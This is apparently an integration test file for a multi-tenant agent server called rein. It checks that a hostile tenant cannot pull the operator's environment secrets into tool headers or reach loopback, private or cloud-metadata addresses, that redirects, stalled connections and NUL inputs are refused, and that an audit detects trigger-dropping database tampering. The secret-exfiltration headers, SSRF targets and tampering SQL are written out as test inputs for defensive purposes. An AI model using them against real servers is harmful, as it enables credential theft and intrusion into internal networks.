//! A tenant with an API key, acting as an attacker would: its specs try to read the server's
//! secrets and reach the server's own network. `rein serve` runs as a process, with the
//! operator's secrets in its environment, and a service on 127.0.0.1 records every request
//! that arrives.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;

use axum::extract::State;
use axum::http::{HeaderMap, StatusCode, Uri};
use axum::response::{IntoResponse, Response};
use rein_fakes::{FakeOpenAi, FakeResponse};
use serde_json::{Value, json};
use std::path::Path;
use std::sync::{Arc, Mutex};

const AWS_PROBE: &str = "aws-probe-4f1c9e7a2b";
const ADMIN_PROBE: &str = "admin-probe-0123456789abcdef0123456789abcdef";
const DB_PROBE: &str = "postgres://rein:db-probe-77aa@10.0.0.5/rein";
const TENANT_SECRET: &str = "crm-probe-5d2e8b91c4";

/// A service that records each request's path and headers, echoes its `x-token` header back
/// in its answer (as a careless service does), and redirects `/hop` to `127.0.0.2`.
struct Capture {
    url: String,
    seen: Seen,
}

/// Each request's path and headers, in order.
type Seen = Arc<Mutex<Vec<(String, HeaderMap)>>>;

impl Capture {
    async fn start() -> Capture {
        let seen: Seen = Arc::default();
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let app = axum::Router::new()
            .fallback(
                move |State(seen): State<Seen>, uri: Uri, headers: HeaderMap| async move {
                    let path = uri.path().to_string();
                    let token = headers
                        .get("x-token")
                        .and_then(|v| v.to_str().ok())
                        .unwrap_or("")
                        .to_string();
                    seen.lock().unwrap().push((path.clone(), headers));
                    if path == "/hop" {
                        return Response::builder()
                            .status(StatusCode::FOUND)
                            .header("location", format!("http://127.0.0.2:{port}/landed"))
                            .body(axum::body::Body::empty())
                            .unwrap();
                    }
                    axum::Json(json!({"ok": true, "you_sent": token})).into_response()
                },
            )
            .with_state(seen.clone());
        tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
        Capture {
            url: format!("http://127.0.0.1:{port}"),
            seen,
        }
    }

    fn paths(&self) -> Vec<String> {
        self.seen
            .lock()
            .unwrap()
            .iter()
            .map(|(p, _)| p.clone())
            .collect()
    }

    fn headers(&self) -> String {
        format!("{:?}", self.seen.lock().unwrap())
    }
}

/// An OTLP/HTTP collector that keeps every body it is sent: its URL and the bytes so far.
async fn collector() -> (String, Arc<Mutex<Vec<u8>>>) {
    let bodies: Arc<Mutex<Vec<u8>>> = Arc::default();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    let app = axum::Router::new()
        .fallback(
            |State(bodies): State<Arc<Mutex<Vec<u8>>>>, body: axum::body::Bytes| async move {
                bodies.lock().unwrap().extend_from_slice(&body);
                StatusCode::OK
            },
        )
        .with_state(bodies.clone());
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    (url, bodies)
}

/// A provider that calls each tool named in `calls` in turn, one per answer, then answers.
async fn calling(calls: &'static [&'static str]) -> FakeOpenAi {
    FakeOpenAi::start(move |n, _| match calls.get(n) {
        Some(tool) => FakeResponse::tool_call(&format!("call_{n}"), tool, &json!({}), 30, 10),
        None => FakeResponse::text("done", 30, 5),
    })
    .await
    .unwrap()
}

fn tool(name: &str, url: &str, headers: &str) -> String {
    format!(
        r#"  - name: {name}
    description: Calls {name}.
    input_schema: {{type: object}}
    source: {{http: {{url: "{url}", method: GET, headers: {{{headers}}}}}}}
    contract: {{timeout: 5s, idempotent: true, side_effects: read, results: trusted}}
"#
    )
}

fn spec(name: &str, model: &str, tools: &[String]) -> String {
    format!(
        "name: {name}\nversion: 1\nmodel: {{primary: {model}}}\ninstructions: Use the tools.\ntools:\n{}limits: {{max_iterations: 6, max_total_tokens: 20000, max_cost_usd: 0.10}}\n",
        tools.concat()
    )
}

/// Runs `agent` to its end over the API; the run, its events and its trace, as text.
async fn run(http: &reqwest::Client, base: &str, key: &str, agent: &str) -> (Value, String) {
    let run = common::run_waiting(
        http,
        base,
        key,
        json!({"agent": agent, "input": "go", "timeout_ms": 60000}),
        &[],
    )
    .await;
    let id = run["run_id"].as_str().unwrap_or_else(|| panic!("{run}"));
    let (_, views) = run_views(http, base, key, id).await;
    (run, views)
}

fn tool_results(events: &str) -> Vec<String> {
    events
        .lines()
        .filter(|l| l.starts_with("data:") && l.contains("\"tool_result\""))
        .map(str::to_string)
        .collect()
}

fn write(dir: &Path, name: &str, text: &str) {
    std::fs::write(dir.join(name), text).unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn a_tenant_spec_reads_only_its_own_secrets_never_the_servers_environment() {
    let dir = tempfile::tempdir().unwrap();
    let dir = dir.path();
    let capture = Capture::start().await;
    // The operator opens 127.0.0.1 to tenants here: it stands for a host the tenant chose.
    write(dir, "rein.toml", "[egress]\nallow = [\"127.0.0.1\"]\n");
    let key = common::tenant_key(dir, "acme");
    let secrets_key = common::rein_ok(dir, &["secrets", "key"]).trim().to_string();
    let mut set = common::rein_command(dir);
    set.args(["secrets", "set", "--tenant", "acme", "CRM_TOKEN"])
        .env("REIN_SECRETS_KEY", &secrets_key)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped());
    let mut child = set.spawn().unwrap();
    use std::io::Write;
    child
        .stdin
        .take()
        .unwrap()
        .write_all(format!("{TENANT_SECRET}\n").as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let listed = common::rein_ok(dir, &["secrets", "list", "--tenant", "acme"]);
    assert!(
        listed.contains("CRM_TOKEN") && !listed.contains(TENANT_SECRET),
        "{listed}"
    );

    let provider = calling(&["steal", "crm"]).await;
    let (otlp, exported) = collector().await;
    // A compatible server a tenant's model entry names: it records the key it is sent.
    let rogue = FakeOpenAi::start(|_, _| FakeResponse::text("done", 30, 5))
        .await
        .unwrap();
    let server = common::serve(
        dir,
        &["--db", "rein.db"],
        &[
            ("OPENAI_BASE_URL", &provider.base_url()),
            ("OPENAI_API_KEY", "sk-operator-probe-99"),
            ("AWS_SECRET_ACCESS_KEY", AWS_PROBE),
            ("DATABASE_URL", DB_PROBE),
            ("REIN_ADMIN_KEY", ADMIN_PROBE),
            ("REIN_SECRETS_KEY", &secrets_key),
            ("OTEL_EXPORTER_OTLP_ENDPOINT", &otlp),
        ],
    );
    let base = &server.base;
    let http = reqwest::Client::new();
    let url = format!("{}/collect", capture.url);
    let thief = spec(
        "thief",
        "openai/gpt-4o-mini",
        &[
            tool(
                "steal",
                &url,
                r#"X-Aws: "${AWS_SECRET_ACCESS_KEY}", X-Db: "${DATABASE_URL}", X-Admin: "${REIN_ADMIN_KEY}""#,
            ),
            tool("crm", &url, r#"X-Token: "${CRM_TOKEN}""#),
        ],
    );
    common::register(&http, base, &key, &thief).await;
    let (answer, seen) = run(&http, base, &key, "thief").await;
    assert_eq!(answer["status"], "completed", "{answer}");
    let results = tool_results(&seen);
    assert_eq!(results.len(), 2, "{seen}");
    assert!(
        results[0].contains("`steal` is not configured: its header `X-Admin` needs the secret `REIN_ADMIN_KEY`, which the operator has not set for this tenant"),
        "{}",
        results[0]
    );
    // The tenant's own secret went to the host its spec names, and only there; the service's
    // echo of it is never recorded.
    assert_eq!(capture.paths(), ["/collect"], "{}", capture.headers());
    assert!(capture.headers().contains(TENANT_SECRET));
    assert!(results[1].contains("[REDACTED]"), "{}", results[1]);

    // A model entry's `api_key_env` names the tenant's secrets too, never the environment.
    for (agent, var, expected) in [
        ("admin-thief", "REIN_ADMIN_KEY", None),
        (
            "own-key",
            "CRM_TOKEN",
            Some(format!("Bearer {TENANT_SECRET}")),
        ),
    ] {
        let model = format!(
            "{{name: gpt-4o-mini, provider: openai, base_url: \"{}\", api_key_env: {var}}}",
            rogue.base_url()
        );
        let spec = spec(agent, &model, &[]).replace("tools:\n", "");
        common::register(&http, base, &key, &spec).await;
        let before = rogue.requests().len();
        let (answer, views) = run(&http, base, &key, agent).await;
        assert_eq!(answer["status"], "completed", "{answer}");
        for probe in [ADMIN_PROBE, TENANT_SECRET] {
            assert!(!views.contains(probe), "{probe} in the views of {agent}");
        }
        let sent = rogue.requests()[before].1.clone();
        assert_eq!(sent, expected, "{agent}");
    }

    // No probe anywhere a tenant or a log reader can look: the API's answers and streams
    // (above), the dashboard's pages, /metrics, the server's logs.
    let cookie = common::sign_in(base, &key).await;
    let mut pages = String::new();
    for path in ["/ui/runs", "/ui/status", "/ui/costs", "/metrics"] {
        pages.push_str(&common::page(&http, base, path, &cookie).await);
    }
    let seen = format!("{seen}\n{pages}");
    let logs = server.logs.clone();
    // The trace export, flushed as the server stops.
    assert!(server.terminate().success());
    let logs = logs.lock().unwrap().join("\n");
    let exported = exported.lock().unwrap().clone();
    assert!(
        exported.windows(5).any(|w| w == b"thief"),
        "the runs' spans were exported to the collector"
    );
    for probe in [
        AWS_PROBE,
        ADMIN_PROBE,
        DB_PROBE,
        "sk-operator-probe-99",
        TENANT_SECRET,
    ] {
        assert!(!seen.contains(probe), "{probe} in the run's views");
        assert!(!logs.contains(probe), "{probe} in the server's logs");
        assert!(
            !exported.windows(probe.len()).any(|w| w == probe.as_bytes()),
            "{probe} in the trace export"
        );
        assert!(
            !capture.headers().contains(probe) || probe == TENANT_SECRET,
            "{probe} sent out"
        );
    }
    let db = std::fs::read(dir.join("rein.db")).unwrap();
    assert!(
        !db.windows(TENANT_SECRET.len())
            .any(|w| w == TENANT_SECRET.as_bytes()),
        "the tenant's secret is stored in the clear"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_tenant_tool_cannot_reach_the_servers_network() {
    let dir = tempfile::tempdir().unwrap();
    let dir = dir.path();
    let capture = Capture::start().await;
    let key = common::tenant_key(dir, "acme");
    let provider = calling(&["loopback", "metadata", "named", "private"]).await;
    let server = common::serve(
        dir,
        &["--db", "rein.db"],
        &[("OPENAI_BASE_URL", &provider.base_url())],
    );
    let base = &server.base;
    let http = reqwest::Client::new();
    let port = capture.url.rsplit(':').next().unwrap();
    let probe = spec(
        "prober",
        "openai/gpt-4o-mini",
        &[
            tool("loopback", &format!("{}/metrics", capture.url), ""),
            tool("metadata", "http://169.254.169.254/latest/meta-data/", ""),
            tool("named", &format!("http://localhost:{port}/v1/admin"), ""),
            tool("private", "http://[::ffff:10.0.0.1]:5432/", ""),
        ],
    );
    common::register(&http, base, &key, &probe).await;
    let (answer, seen) = run(&http, base, &key, "prober").await;
    assert_eq!(answer["status"], "completed", "{answer}");
    assert!(capture.paths().is_empty(), "{:?}", capture.paths());
    let results = tool_results(&seen);
    assert_eq!(results.len(), 4, "{seen}");
    for (result, range) in results.iter().zip([
        "a loopback",
        "a link-local (cloud metadata)",
        "a loopback",
        "a private",
    ]) {
        assert!(
            result.contains(&format!(
                "{range} address, which the server's egress policy closes"
            )),
            "{result}"
        );
        assert!(result.contains("\"error_type\":\"permanent\""), "{result}");
    }
    // Where an internal name points is not told to the tenant.
    assert!(
        !results[2].contains("127.0.0.1") && !results[2].contains("::1"),
        "{}",
        results[2]
    );
    let refusals = seen
        .lines()
        .filter(|l| l.starts_with("event: egress_refused"))
        .count();
    assert_eq!(refusals, 4, "{seen}");

    // A model entry's own server is held to the same policy, by address and by name.
    for (agent, host) in [("local-model", "127.0.0.1"), ("named-model", "localhost")] {
        let model = format!(
            "{{name: gpt-4o-mini, provider: openai, base_url: \"http://{host}:{port}/v1\"}}"
        );
        let spec = spec(agent, &model, &[]).replace("tools:\n", "");
        common::register(&http, base, &key, &spec).await;
        let (answer, seen) = run(&http, base, &key, agent).await;
        assert_eq!(answer["status"], "failed", "{answer}");
        assert!(
            seen.contains("the model's server may not be reached"),
            "{agent}: {seen}"
        );
        assert!(seen.contains("event: egress_refused"), "{agent}: {seen}");
    }
    assert!(capture.paths().is_empty(), "{:?}", capture.paths());
    drop(server);

    // Opened by the operator, the host is reached; a redirect from it to another closed
    // address is refused all the same.
    write(dir, "rein.toml", "[egress]\nallow = [\"127.0.0.1\"]\n");
    let provider = calling(&["loopback", "hop"]).await;
    let server = common::serve(
        dir,
        &["--db", "rein.db"],
        &[("OPENAI_BASE_URL", &provider.base_url())],
    );
    let base = &server.base;
    let hop = spec(
        "hopper",
        "openai/gpt-4o-mini",
        &[
            tool("loopback", &format!("{}/metrics", capture.url), ""),
            tool("hop", &format!("{}/hop", capture.url), ""),
        ],
    );
    common::register(&http, base, &key, &hop).await;
    let (answer, seen) = run(&http, base, &key, "hopper").await;
    assert_eq!(answer["status"], "completed", "{answer}");
    assert_eq!(capture.paths(), ["/metrics", "/hop"]);
    let results = tool_results(&seen);
    assert!(
        results[0].contains("\"status\":\"success\""),
        "{}",
        results[0]
    );
    assert!(
        results[1].contains("`127.0.0.2` is a loopback address"),
        "{}",
        results[1]
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn deciding_a_run_that_no_longer_waits_is_a_conflict() {
    let dir = tempfile::tempdir().unwrap();
    let dir = dir.path();
    write(dir, "rein.toml", "[egress]\nallow = [\"127.0.0.1\"]\n");
    let service = rein_fakes::ToolService::start().await.unwrap();
    let key = common::tenant_key(dir, "acme");
    let provider = common::paying_provider().await;
    let server = common::serve(
        dir,
        &["--db", "rein.db"],
        &[("OPENAI_BASE_URL", &provider.base_url())],
    );
    let http = reqwest::Client::new();
    let base = &server.base;
    let (_, held) = common::paid_and_held_runs(&http, base, &key, &service.url()).await;
    let cancelled = http
        .post(format!("{base}/v1/runs/{held}/cancel"))
        .bearer_auth(&key)
        .send()
        .await
        .unwrap();
    assert!(cancelled.status().is_success(), "{}", cancelled.status());
    let approved = http
        .post(format!("{base}/v1/runs/{held}/approval"))
        .bearer_auth(&key)
        .json(&json!({"approved": true}))
        .send()
        .await
        .unwrap();
    assert_eq!(approved.status(), 409);
    let problem: Value = approved.json().await.unwrap();
    assert!(
        problem["detail"]
            .as_str()
            .unwrap()
            .contains("has already ended (cancelled)"),
        "{problem}"
    );
    assert_eq!(service.hits("apply"), 1, "only the unheld payment was made");
}

/// A NUL in any text of a request is refused as 422, on SQLite and PostgreSQL alike, and
/// nothing is stored.
#[tokio::test(flavor = "multi_thread")]
async fn a_nul_in_a_request_is_refused_on_both_engines() {
    let schema = rein_store::testing::TestSchema::create().await.unwrap();
    for db in ["rein.db".to_string(), schema.url()] {
        let dir = tempfile::tempdir().unwrap();
        let dir = dir.path();
        let key = common::tenant_key_in(dir, "acme", &db);
        write(dir, "script.yaml", "responses:\n  - text: hi\n");
        let server = common::serve(dir, &["--db", &db, "--script", "script.yaml"], &[]);
        let http = reqwest::Client::new();
        let base = &server.base;
        let spec = spec("echo", "openai/gpt-4o-mini", &[]).replace("tools:\n", "");
        common::register(&http, base, &key, &spec).await;
        for body in [
            json!({"agent": "echo", "input": "a\u{0}b"}),
            json!({"agent": "echo", "input": "ok", "user": "u\u{0}"}),
        ] {
            let answer = http
                .post(format!("{base}/v1/runs"))
                .bearer_auth(&key)
                .json(&body)
                .send()
                .await
                .unwrap();
            assert_eq!(answer.status(), 422, "{db}");
            let problem: Value = answer.json().await.unwrap();
            assert!(
                problem["detail"].as_str().unwrap().contains("NUL"),
                "{problem}"
            );
        }
        let agents = http
            .post(format!("{base}/v1/agents"))
            .bearer_auth(&key)
            .header("content-type", "application/yaml")
            .body(spec.replace("Use the tools.", "Use\u{0} the tools."))
            .send()
            .await
            .unwrap();
        assert_eq!(agents.status(), 422, "{db}");
        let runs = common::get_json(&http, &format!("{base}/v1/runs"), &key).await;
        assert_eq!(runs.as_array().map(Vec::len), Some(0), "{runs}");
        for url in ["/v1/runs/a%00b", "/v1/runs?user=u%00"] {
            let answer = http
                .get(format!("{base}{url}"))
                .bearer_auth(&key)
                .send()
                .await
                .unwrap();
            assert_eq!(answer.status(), 422, "{db} {url}");
        }
    }
    schema.drop_schema().await.unwrap();
}

/// Connections that send nothing, or a head without its body, are closed; past the cap, new
/// connections wait until one closes.
#[tokio::test(flavor = "multi_thread")]
async fn idle_and_stalled_connections_are_closed() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let dir = tempfile::tempdir().unwrap();
    let dir = dir.path();
    write(
        dir,
        "rein.toml",
        "[server]\nheader_timeout = \"1s\"\nbody_timeout = \"1s\"\nmax_connections = 3\n",
    );
    let key = common::tenant_key(dir, "acme");
    let server = common::serve(dir, &["--db", "rein.db"], &[]);
    let addr = server.base.trim_start_matches("http://").to_string();

    // Silent: closed once the head is overdue.
    let mut silent = tokio::net::TcpStream::connect(&addr).await.unwrap();
    let mut buf = Vec::new();
    let read = tokio::time::timeout(
        std::time::Duration::from_secs(10),
        silent.read_to_end(&mut buf),
    )
    .await;
    assert!(matches!(read, Ok(Ok(_))), "an idle connection stayed open");

    // A body declared and never sent: 408 at the body's deadline, not the request's.
    let mut stalled = tokio::net::TcpStream::connect(&addr).await.unwrap();
    stalled
        .write_all(
            format!(
                "POST /v1/runs HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {key}\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{{"
            )
            .as_bytes(),
        )
        .await
        .unwrap();
    let mut answer = Vec::new();
    let started = std::time::Instant::now();
    let _ = tokio::time::timeout(
        std::time::Duration::from_secs(10),
        stalled.read_to_end(&mut answer),
    )
    .await;
    let answer = String::from_utf8_lossy(&answer);
    assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");
    assert!(started.elapsed() < std::time::Duration::from_secs(9));

    // Three idle connections hold every place; a fourth is served once they are closed.
    let mut idle = Vec::new();
    for _ in 0..3 {
        idle.push(tokio::net::TcpStream::connect(&addr).await.unwrap());
    }
    tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    let started = std::time::Instant::now();
    let health = reqwest::get(format!("{}/healthz", server.base))
        .await
        .unwrap();
    assert_eq!(health.status(), 200);
    assert!(
        started.elapsed() >= std::time::Duration::from_millis(500),
        "served beside three open connections: the cap did not hold"
    );
}

/// A key pasted into a run's input is redacted before anything stores it: no table, API answer
/// or page holds it, and the audit finds the run intact.
#[tokio::test(flavor = "multi_thread")]
async fn a_secret_in_the_input_is_stored_nowhere() {
    const PASTED: &str = "sk-proj-Zq8pastedKEYnever4storeXy77";
    let dir = tempfile::tempdir().unwrap();
    let dir = dir.path();
    let key = common::tenant_key(dir, "acme");
    write(dir, "script.yaml", "responses:\n  - text: noted\n");
    let server = common::serve(dir, &["--db", "rein.db", "--script", "script.yaml"], &[]);
    let http = reqwest::Client::new();
    let base = &server.base;
    let spec = spec("notes", "openai/gpt-4o-mini", &[]).replace("tools:\n", "");
    common::register(&http, base, &key, &spec).await;
    let input = format!("my key is {PASTED}, keep it safe");
    let body = json!({"agent": "notes", "input": input, "wait": true});
    let first = http
        .post(format!("{base}/v1/runs"))
        .bearer_auth(&key)
        .header("Idempotency-Key", "paste-1")
        .json(&body)
        .send()
        .await
        .unwrap();
    assert_eq!(first.status(), 200);
    let run: Value = first.json().await.unwrap();
    assert_eq!(run["status"], "completed", "{run}");
    let id = run["run_id"].as_str().unwrap();
    // A retry of the same request is recognised though only the redacted input was kept.
    let retry = http
        .post(format!("{base}/v1/runs"))
        .bearer_auth(&key)
        .header("Idempotency-Key", "paste-1")
        .json(&body)
        .send()
        .await
        .unwrap();
    assert_eq!(retry.status(), 200);
    assert_eq!(retry.headers()["idempotent-replayed"], "true");

    let (_, views) = run_views(&http, base, &key, id).await;
    let listed = common::get_json(&http, &format!("{base}/v1/runs"), &key).await;
    let shown = common::rein_ok(dir, &["runs", "show", id, "--tenant", "acme", "--json"]);
    // The same key in a gateway call's conversation.
    let chat = http
        .post(format!("{base}/v1/chat/completions"))
        .bearer_auth(&key)
        .json(&json!({"model": "gpt-4o-mini", "messages": [{"role": "user", "content": input}]}))
        .send()
        .await
        .unwrap();
    assert_eq!(chat.status(), 200);
    let chat_run = chat.headers()["x-rein-run-id"]
        .to_str()
        .unwrap()
        .to_string();
    let (_, chat_views) = run_views(&http, base, &key, &chat_run).await;
    let cookie = common::sign_in(base, &key).await;
    let mut pages = String::new();
    for path in [
        format!("/ui/runs/{id}"),
        format!("/ui/runs/{chat_run}"),
        "/ui/runs".into(),
    ] {
        pages.push_str(&common::page(&http, base, &path, &cookie).await);
    }
    let everything = format!("{views}\n{listed}\n{shown}\n{run}\n{chat_views}\n{pages}");
    assert!(!everything.contains(PASTED), "{everything}");
    assert!(everything.contains("my key is"), "{everything}");
    drop(server);
    let db = std::fs::read(dir.join("rein.db")).unwrap();
    let wal = std::fs::read(dir.join("rein.db-wal")).unwrap_or_default();
    for bytes in [db, wal] {
        assert!(!bytes.windows(PASTED.len()).any(|w| w == PASTED.as_bytes()));
    }
    let audit = common::rein(dir, &["audit", "verify", id, "--tenant", "acme"]);
    assert!(
        audit.status.success(),
        "{}",
        String::from_utf8_lossy(&audit.stdout)
    );
}

/// A run's events (as SSE), trace and summary, as text.
async fn run_views(http: &reqwest::Client, base: &str, key: &str, id: &str) -> (Value, String) {
    let events = http
        .get(format!("{base}/v1/runs/{id}/events"))
        .bearer_auth(key)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let trace = common::get_json(http, &format!("{base}/v1/runs/{id}/trace"), key).await;
    let shown = common::get_json(http, &format!("{base}/v1/runs/{id}"), key).await;
    (shown.clone(), format!("{events}\n{trace}\n{shown}"))
}

/// One tenant's backlog of long runs does not hold another tenant's first run: the workers
/// keep a share free (three of four at most to one tenant), and the next run claimed is the
/// tenant's with the fewest running.
#[tokio::test(flavor = "multi_thread")]
async fn one_tenants_backlog_never_holds_another_tenants_first_run() {
    let dir = tempfile::tempdir().unwrap();
    let dir = dir.path();
    write(
        dir,
        "script.yaml",
        "responses:\n  - tool_calls: [{name: nap, arguments: {seconds: 4}}]\n    when: slowly\n  - text: done\n    when: slowly\n  - text: quick\n    unless: slowly\n",
    );
    let big = common::tenant_key(dir, "big");
    let small = common::tenant_key(dir, "small");
    let server = common::serve(
        dir,
        &[
            "--db",
            "rein.db",
            "--script",
            "script.yaml",
            "--workers",
            "4",
        ],
        &[],
    );
    let http = reqwest::Client::new();
    let base = &server.base;
    let napper = "name: napper\nversion: 1\nmodel: {primary: openai/gpt-4o-mini}\ninstructions: Nap.\ntools:\n  - name: nap\n    source: {builtin: sleep}\n    contract: {timeout: 30s, side_effects: none}\nlimits: {max_iterations: 4, max_total_tokens: 20000, max_cost_usd: 0.10}\n";
    common::register(&http, base, &big, napper).await;
    common::register(&http, base, &small, napper).await;
    let mut backlog = Vec::new();
    for n in 0..10 {
        let queued = http
            .post(format!("{base}/v1/runs"))
            .bearer_auth(&big)
            .json(&json!({"agent": "napper", "input": format!("nap slowly {n}")}))
            .send()
            .await
            .unwrap();
        assert_eq!(queued.status(), 202);
        backlog.push(queued.json::<Value>().await.unwrap()["run_id"].clone());
    }
    // Let the workers take what they will of the backlog.
    tokio::time::sleep(std::time::Duration::from_millis(500)).await;
    let started = std::time::Instant::now();
    let first = common::run_waiting(
        &http,
        base,
        &small,
        json!({"agent": "napper", "input": "hello", "timeout_ms": 20000}),
        &[],
    )
    .await;
    assert_eq!(first["status"], "completed", "{first}");
    assert!(
        started.elapsed() < std::time::Duration::from_secs(3),
        "the small tenant's run waited {:?} behind the big one's backlog",
        started.elapsed()
    );
    let running = common::get_json(&http, &format!("{base}/v1/runs?status=running"), &big).await;
    assert_eq!(
        running.as_array().map(Vec::len),
        Some(3),
        "three of four workers at most for one tenant: {running}"
    );
}

/// Someone with write access to the database drops the triggers and changes tenants and keys
/// behind the admin log's back: the operator's audit names each change.
#[tokio::test(flavor = "multi_thread")]
async fn the_audit_finds_keys_and_tenants_changed_outside_the_admin_log() {
    let dir = tempfile::tempdir().unwrap();
    let dir = dir.path();
    let key = common::tenant_key(dir, "acme");
    let audit = || {
        let out = common::rein(
            dir,
            &["audit", "verify", "--all-tenants", "--db", "rein.db"],
        );
        (
            out.status.code(),
            String::from_utf8_lossy(&out.stdout).to_string(),
        )
    };
    assert_eq!(audit().0, Some(0), "{}", audit().1);
    let url = format!("sqlite://{}", dir.join("rein.db").display());
    let db = sqlx::SqlitePool::connect(&url).await.unwrap();
    let sql = |q: &'static str| sqlx::query(sqlx::AssertSqlSafe(q));
    // A key inserted by hand (it would authenticate), and a tenant with it.
    sql("INSERT INTO tenants (name, created_ms) VALUES ('ghost', 0)")
        .execute(&db)
        .await
        .unwrap();
    sql("INSERT INTO api_keys (key_sha256, tenant, created_ms) VALUES ('feedfacefeedface0000000000000000000000000000000000000000000000000', 'ghost', 0)")
        .execute(&db)
        .await
        .unwrap();
    db.close().await;
    let (code, stdout) = audit();
    assert_eq!(code, Some(6), "{stdout}");
    assert!(
        stdout.contains("tenant ghost is stored without its admin log entry"),
        "{stdout}"
    );
    assert!(
        stdout
            .contains("key feedfacefeedface of tenant ghost is stored without its admin log entry"),
        "{stdout}"
    );

    // The last admin log entry (acme's key) deleted, triggers dropped first.
    let db = sqlx::SqlitePool::connect(&url).await.unwrap();
    for q in [
        "DELETE FROM api_keys WHERE tenant = 'ghost'",
        "DELETE FROM tenants WHERE name = 'ghost'",
        "DROP TRIGGER admin_log_is_never_deleted",
        "DELETE FROM admin_log WHERE seq = (SELECT max(seq) FROM admin_log)",
    ] {
        sql(q).execute(&db).await.unwrap();
    }
    db.close().await;
    let (code, stdout) = audit();
    assert_eq!(code, Some(6), "{stdout}");
    let id = &rein_core::event::sha256_hex(key.as_bytes())[..16];
    assert!(
        stdout.contains(&format!(
            "key {id} of tenant acme is stored without its admin log entry"
        )),
        "{stdout}"
    );
}

/// A run removed from the database, triggers dropped, is found through the audit anchor; and
/// a database whose anchors were rewritten to match is found through the anchor file.
#[tokio::test(flavor = "multi_thread")]
async fn the_audit_finds_a_removed_run_through_its_anchors() {
    let dir = tempfile::tempdir().unwrap();
    let dir = dir.path();
    write(dir, "script.yaml", "responses:\n  - text: done\n");
    let spec = spec("scribe", "openai/gpt-4o-mini", &[]).replace("tools:\n", "");
    write(dir, "scribe.yaml", &spec);
    let anchors = dir.join("outside").join("anchors.jsonl");
    std::fs::create_dir_all(anchors.parent().unwrap()).unwrap();
    write(
        dir,
        "rein.toml",
        &format!("[audit]\nanchor_file = \"{}\"\n", anchors.display()),
    );
    let mut ids = Vec::new();
    for input in ["one", "two"] {
        let out = common::rein_ok(
            dir,
            &[
                "run",
                "scribe.yaml",
                "--input",
                input,
                "--script",
                "script.yaml",
                "--json",
            ],
        );
        let run: Value = serde_json::from_str(&out).unwrap();
        ids.push(run["run_id"].as_str().unwrap().to_string());
    }
    let anchored = common::rein_ok(dir, &["audit", "anchor", "--lag", "0s"]);
    assert!(anchored.contains("audit anchor 0: 2 runs"), "{anchored}");
    let audit = |config: &str| {
        let out = common::rein(
            dir,
            &["audit", "verify", "--all-tenants", "--config", config],
        );
        (
            out.status.code(),
            String::from_utf8_lossy(&out.stdout).to_string(),
        )
    };
    let (code, stdout) = audit("rein.toml");
    assert_eq!(code, Some(0), "{stdout}");
    assert!(stdout.contains("1 audit anchors"), "{stdout}");

    let url = format!("sqlite://{}", dir.join("rein.db").display());
    let db = sqlx::SqlitePool::connect(&url).await.unwrap();
    for q in [
        "DROP TRIGGER events_are_never_deleted",
        "DROP TRIGGER runs_are_never_deleted",
    ] {
        sqlx::query(sqlx::AssertSqlSafe(q))
            .execute(&db)
            .await
            .unwrap();
    }
    for q in [
        "DELETE FROM events WHERE run_id = ?",
        "DELETE FROM runs WHERE id = ?",
    ] {
        sqlx::query(sqlx::AssertSqlSafe(q))
            .bind(&ids[0])
            .execute(&db)
            .await
            .unwrap();
    }
    db.close().await;
    let (code, stdout) = audit("rein.toml");
    assert_eq!(code, Some(6), "{stdout}");
    assert!(
        stdout.contains("1 run(s) created before audit anchor 0 are missing from the store"),
        "{stdout}"
    );

    // The database's anchors rewritten to match what is left: the file still knows.
    let db = sqlx::SqlitePool::connect(&url).await.unwrap();
    for q in [
        "DROP TRIGGER audit_anchors_are_never_deleted",
        "DELETE FROM audit_anchors",
    ] {
        sqlx::query(sqlx::AssertSqlSafe(q))
            .execute(&db)
            .await
            .unwrap();
    }
    db.close().await;
    write(dir, "inside.toml", "");
    common::rein_ok(
        dir,
        &["audit", "anchor", "--lag", "0s", "--config", "inside.toml"],
    );
    let (code, stdout) = audit("inside.toml");
    assert_eq!(
        code,
        Some(0),
        "without the file, a consistent rewrite passes: {stdout}"
    );
    let (code, stdout) = audit("rein.toml");
    assert_eq!(code, Some(6), "{stdout}");
    assert!(
        stdout.contains("is not in the database as written"),
        "{stdout}"
    );
    assert!(stdout.contains("are missing from the store"), "{stdout}");
}
